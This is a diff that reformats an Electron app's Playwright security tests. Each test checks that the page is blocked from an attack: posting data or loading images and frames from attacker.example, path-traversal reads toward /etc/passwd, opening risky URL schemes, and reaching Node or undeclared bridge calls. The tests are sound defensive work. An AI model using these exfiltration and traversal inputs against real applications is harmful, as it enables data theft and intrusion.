@@ -50,8 +50,14 @@ test('attack: the page carries data to the system’s browser in fifty windows',
 })
 
 const ways = [
-  ['a page that it has written itself', () => void (location.href = URL.createObjectURL(new Blob(['<h1>x</h1>'], { type: 'text/html' })))],
-  ['such a page, in place of its own', () => location.replace(URL.createObjectURL(new Blob(['<h1>x</h1>'], { type: 'text/html' })))],
+  [
+    'a page that it has written itself',
+    () => void (location.href = URL.createObjectURL(new Blob(['<h1>x</h1>'], { type: 'text/html' })))
+  ],
+  [
+    'such a page, in place of its own',
+    () => location.replace(URL.createObjectURL(new Blob(['<h1>x</h1>'], { type: 'text/html' })))
+  ],
   ['another file of the program', () => void (location.href = '/assets/other.html')],
   ['the root of the program', () => void (location.href = '/')],
   ['its own page with something asked of it', () => void (location.href = '/index.html?x=1')],
@@ -89,8 +95,16 @@ test('attack: the page asks another way to the network than main’s', async ({ 
   await expect(page).toHaveTitle(/.+/)
   const ways = await app.evaluate(async ({ BrowserWindow, session }) => {
     const own = BrowserWindow.getAllWindows()[0]?.webContents.session
-    const addresses = ['https://attacker.example/', 'http://127.0.0.1:8080/', 'http://localhost/', 'wss://attacker.example/']
-    return { isShared: own === session.defaultSession, ways: await Promise.all(addresses.map((address) => own?.resolveProxy(address))) }
+    const addresses = [
+      'https://attacker.example/',
+      'http://127.0.0.1:8080/',
+      'http://localhost/',
+      'wss://attacker.example/'
+    ]
+    return {
+      isShared: own === session.defaultSession,
+      ways: await Promise.all(addresses.map((address) => own?.resolveProxy(address)))
+    }
   })
   expect(ways).toEqual({ isShared: false, ways: Array.from({ length: 4 }, () => 'PROXY 127.0.0.1:1') })
 })
@@ -109,7 +123,9 @@ test('attack: a text becomes markup, a script or a policy of the page’s own', 
         }
         const element = document.createElement('div')
         const script = document.createElement('script')
-        const { trustedTypes } = window as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => unknown } }
+        const { trustedTypes } = window as unknown as {
+          trustedTypes: { createPolicy: (name: string, rules: object) => unknown }
+        }
         // In a task of the page's own: what the test evaluates directly is exempt from the content policy.
         requestAnimationFrame(() => {
           resolve(
@@ -142,7 +158,17 @@ test('attack: the page allows itself to open programs on the computer', async ({
     page.evaluate((schemes) => window.kontorist.call('settings.chooseSignIn', { openSchemes: schemes }), openSchemes)
   const dialogs = () => app.evaluate(() => globalThis.dialogs)
 
-  for (const scheme of ['ms-officecmd', 'ms-appinstaller', 'search-ms', 'search', 'ldap', 'ssh', 'jnlp', 'file', 'javascript']) {
+  for (const scheme of [
+    'ms-officecmd',
+    'ms-appinstaller',
+    'search-ms',
+    'search',
+    'ldap',
+    'ssh',
+    'jnlp',
+    'file',
+    'javascript'
+  ]) {
     expect(await choose(['bankid', scheme]), scheme).toMatchObject({ ok: false, problem: { code: 'invalid' } })
   }
   expect(await dialogs()).toEqual([])
@@ -161,7 +187,9 @@ test('a person allows a program to be opened, in a dialog that names it', async 
   await app.evaluate(({ dialog }) => {
     dialog.showMessageBox = async () => ({ response: 1, checkboxChecked: false })
   })
-  const answer = await page.evaluate(() => window.kontorist.call('settings.chooseSignIn', { openSchemes: ['bankid', 'firma-login'] }))
+  const answer = await page.evaluate(() =>
+    window.kontorist.call('settings.chooseSignIn', { openSchemes: ['bankid', 'firma-login'] })
+  )
   expect(answer).toMatchObject({ ok: true, value: { signIn: { openSchemes: ['bankid', 'firma-login'] } } })
 })
 
@@ -194,7 +222,12 @@ test('attack: text is run as a program', async ({ page }) => {
 })
 
 test('attack: the page sends what it knows to another site', async ({ page }) => {
-  const sent = await page.evaluate(() => fetch('https://attacker.example/', { method: 'POST', body: 'x' }).then(() => 'sent', () => 'refused'))
+  const sent = await page.evaluate(() =>
+    fetch('https://attacker.example/', { method: 'POST', body: 'x' }).then(
+      () => 'sent',
+      () => 'refused'
+    )
+  )
   expect(sent).toBe('refused')
 })
 
@@ -202,7 +235,9 @@ test('attack: an image carries data out', async ({ page }) => {
   const blocked = await page.evaluate(
     () =>
       new Promise<string>((resolve) => {
-        document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), { once: true })
+        document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), {
+          once: true
+        })
         new Image().src = 'https://attacker.example/?x=1'
       })
   )
@@ -213,7 +248,9 @@ test('attack: a frame of another origin is put into the page', async ({ page }) 
   const blocked = await page.evaluate(
     () =>
       new Promise<string>((resolve) => {
-        document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), { once: true })
+        document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), {
+          once: true
+        })
         const frame = document.createElement('iframe')
         frame.src = 'https://attacker.example/'
         document.body.append(frame)
@@ -225,11 +262,12 @@ test('attack: a frame of another origin is put into the page', async ({ page }) 
 test('attack: the page reads a file of the computer through the app protocol', { tag: '@smoke' }, async ({ page }) => {
   const statuses = await page.evaluate(() =>
     Promise.all(
-      ['/../main/index.js', '/%2e%2e/main/index.js', '/..%2fmain%2findex.js', '//etc/passwd', '/index.html%00'].map((path) =>
-        fetch(path).then(
-          ({ status }) => status,
-          () => 0
-        )
+      ['/../main/index.js', '/%2e%2e/main/index.js', '/..%2fmain%2findex.js', '//etc/passwd', '/index.html%00'].map(
+        (path) =>
+          fetch(path).then(
+            ({ status }) => status,
+            () => 0
+          )
       )
     )
   )
@@ -237,7 +275,11 @@ test('attack: the page reads a file of the computer through the app protocol', {
 })
 
 test('attack: the page reaches for Node', async ({ page }) => {
-  expect(await page.evaluate(() => ['require', 'process', 'module', 'Buffer', 'ipcRenderer'].filter((name) => name in window))).toEqual([])
+  expect(
+    await page.evaluate(() =>
+      ['require', 'process', 'module', 'Buffer', 'ipcRenderer'].filter((name) => name in window)
+    )
+  ).toEqual([])
 })
 
 test('attack: the page puts its own bridge in place of ours', async ({ page }) => {
@@ -256,8 +298,14 @@ test('attack: the page puts its own bridge in place of ours', async ({ page }) =
 test('attack: the page asks for a call that the contract does not have', { tag: '@smoke' }, async ({ page }) => {
   const answers = await page.evaluate(async () => {
     const call = window.kontorist.call as unknown as (name: string, args: unknown) => Promise<unknown>
-    const outcome = (name: string): Promise<string> => call(name, {}).then(() => 'answered', () => 'refused')
-    return Promise.all(['electron-store-get-data', '__ELECTRON_LOG__', 'toString', '__proto__', 'lists.everything'].map(outcome))
+    const outcome = (name: string): Promise<string> =>
+      call(name, {}).then(
+        () => 'answered',
+        () => 'refused'
+      )
+    return Promise.all(
+      ['electron-store-get-data', '__ELECTRON_LOG__', 'toString', '__proto__', 'lists.everything'].map(outcome)
+    )
   })
   expect(answers).toEqual(Array.from({ length: 5 }, () => 'refused'))
 })
@@ -272,7 +320,10 @@ test('attack: a call is made with arguments that are not of its shape', async ({
 test('attack: the page asks for a permission', { tag: '@smoke' }, async ({ page }) => {
   const answers = await page.evaluate(async () => [
     await Notification.requestPermission(),
-    await navigator.mediaDevices.getUserMedia({ audio: true }).then(() => 'granted', () => 'denied'),
+    await navigator.mediaDevices.getUserMedia({ audio: true }).then(
+      () => 'granted',
+      () => 'denied'
+    ),
     await navigator.permissions.query({ name: 'geolocation' }).then(({ state }) => state)
   ])
   expect(answers).toEqual(['denied', 'denied', 'denied'])
